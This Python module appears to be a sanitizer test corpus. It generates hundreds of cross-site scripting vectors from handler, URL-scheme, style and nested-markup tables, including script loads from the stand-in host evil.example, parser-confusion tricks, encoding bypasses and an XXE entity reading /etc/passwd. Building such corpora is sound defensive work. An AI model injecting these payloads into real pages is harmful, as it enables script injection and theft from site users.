"""Markup that tries to run something, load something or leave its place: families, multiplied by the ways to write them."""

# ruff: noqa: E501 - tables are kept on one line
from __future__ import annotations

from collections.abc import Iterator
from itertools import product

_PAYLOAD = "alert(1)"
_HANDLERS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "onblur",
    "onanimationstart",
    "ontoggle",
    "onpointerenter",
    "onwheel",
    "onbegin",
    "onend",
    "onstart",
    "oncopy",
    "onpaste",
    "ondrag",
    "onhashchange",
    "onmessage",
    "onpageshow",
    "onscroll",
    "ontransitionend",
    "onbeforeinput",
    "onauxclick",
]
_URL_SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "java\rscript:", "\x01javascript:", " javascript:",
    "&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "javascript&colon;", "java&Tab;script:", "java&NewLine;script:",
    "vbscript:", "livescript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=1>",
    "data:application/xhtml+xml,x", "file:///etc/passwd#", "blob:https://x/", "view-source:", "feed:javascript:", "jar:http://x!/",
    "mhtml:http://x!", "about:blank#", "filesystem:", "intent://x", "ms-settings:", "x-javascript:", "//evil.example/", "/\\evil.example/",
    "cid:javascript:",
)  # fmt: skip
_PLACES = (
    '<a href="{}">x</a>', "<a href='{}'>x</a>", "<a href={}>x</a>", '<img src="{}">', '<img srcset="{} 2x">', '<form action="{}"><input>',
    '<button formaction="{}">', '<iframe src="{}">', '<object data="{}">', '<embed src="{}">', '<base href="{}">', '<link rel=stylesheet href="{}">',
    '<meta http-equiv=refresh content="0;url={}">', '<body background="{}">', '<table background="{}"><td>', '<video poster="{}" src="{}">',
    '<audio src="{}">', '<svg><a xlink:href="{}"><text>x', '<math href="{}">x', '<area href="{}">', '<blockquote cite="{}">x', '<q cite="{}">x',
    '<input type=image src="{}">', '<frame src="{}">', '<applet code="{}">', '<isindex action="{}">', '<img data-remote-src="{}">', '<img lowsrc="{}">',
    '<a ping="{}" href="#">x', '<svg><image href="{}">', '<svg><use href="{}">', '<p style="background:url({})">x',
)  # fmt: skip
_STYLES = (
    "background:url(//evil.example/x)", "background-image:url('//evil.example')", "width:expression(alert(1))", "behavior:url(x.htc)",
    "-moz-binding:url(x#y)", "@import '//evil.example'", "color:red;position:fixed;top:0;left:0", "z-index:99999;position:absolute",
    "list-style:url(//evil.example)", "cursor:url(//evil.example),auto", "content:url(//evil.example)", "background:\\75rl(//evil.example)",
    "background:u/**/rl(//evil.example)", "filter:progid:x", "border-image:url(//evil.example)", "margin:-1000px", "color:var(--x)",
    "font-family:x;}</style><script>alert(1)</script>", "width:calc(1px + expression(alert(1)))", "animation:x 1s", "opacity:0", "mask:url(x)",
    "color:red;background-color:image-set(url(//evil.example))", "font:url(//evil.example)", "position:sticky", "transform:scale(100)",
)  # fmt: skip
_NESTED = (
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)</script>", "<script/x>alert(1)</script>", "<script\x0c>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>", "<script>alert(1)", "<script src=//evil.example/", "</script><script>alert(1)</script>",
    "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg><foreignobject><iframe srcdoc=x>", "<svg><animate onbegin=alert(1)>", "<svg><set attributeName=href to=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script>", "<math><mi><style><img src=x onerror=alert(1)></style>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror=alert(1)>\"></style></h1>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">", "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\">", "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">", "<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>", "<select><template><script>alert(1)</script>", "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->", "<!--[if mso]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;", "<img src=\"x` `<script>alert(1)</script>\">",
    "<img src=x\x00 onerror=alert(1)>", "<img\x0bsrc=x onerror=alert(1)>", "<img/src='x'/onerror=alert(1)>", "<img src=x onerror\x0d=alert(1)>",
    "<a href=\"x\" \"onclick=alert(1)\">x", "<p title='\"><script>alert(1)</script>'>x", "<p title=\"--><script>alert(1)</script>\">x",
    "<img alt=\"<x\" onerror=alert(1) src=x \">\">", "<img src=\"a>b\" onerror=alert(1)>", "<img alt='>' src=x onerror=alert(1)>",
    "</div></body></html><script>alert(1)</script>", "<table><script>alert(1)</script><td>", "<li><style>*{background:url(//evil.example)}</style>",
    "<details open ontoggle=alert(1)><summary>x", "<marquee onstart=alert(1)>x", "<video><source onerror=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<dialog open>x</dialog>", "<slot name=x>", "<portal src=//evil.example>", "<custom-el onclick=alert(1)>x", "<x:script>alert(1)</x:script>",
    "<p id=location name=cookie>x", "<img name=getElementById id=body>", "<a id=x href=#>x", "<p class=admin>x", "<form id=f><input name=nodes>",
    "<style>@import '//evil.example';</style>", "<link rel=import href=//evil.example>", "<meta charset=utf-7>+ADw-script+AD4-alert(1)",
    "<p contenteditable autofocus onfocus=alert(1)>", "<p is=x-y>x", "<p slot=x>", "<p data-action=x hx-get=//evil.example>x", "<p x-data=alert(1)>x",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<scrıpt>alert(1)</scrıpt>", "<ſcript>alert(1)</ſcript>", "＜script＞alert(1)",
)  # fmt: skip


def vectors() -> Iterator[str]:
    """All of them; some hundreds."""
    for handler, tag in product(_HANDLERS, ("img src=x", "div", "a href=#", "svg", "body", "input autofocus")):
        yield f"<{tag} {handler}={_PAYLOAD}>x"
        yield f"<{tag}/{handler.upper()}='{_PAYLOAD}'>x"
    for scheme, place in product(_URL_SCHEMES, _PLACES):
        yield place.replace("{}", f"{scheme}{_PAYLOAD}")
    for style in _STYLES:
        yield f'<p style="{style}">x</p>'
        yield f"<td style='{style}'>x</td>"
        yield f"<style>{style}</style>x"
    yield from _NESTED
    for vector in _NESTED:
        yield f"<div><b>{vector}</b></div>"
        yield f"<a href='https://ok.example/'>{vector}"
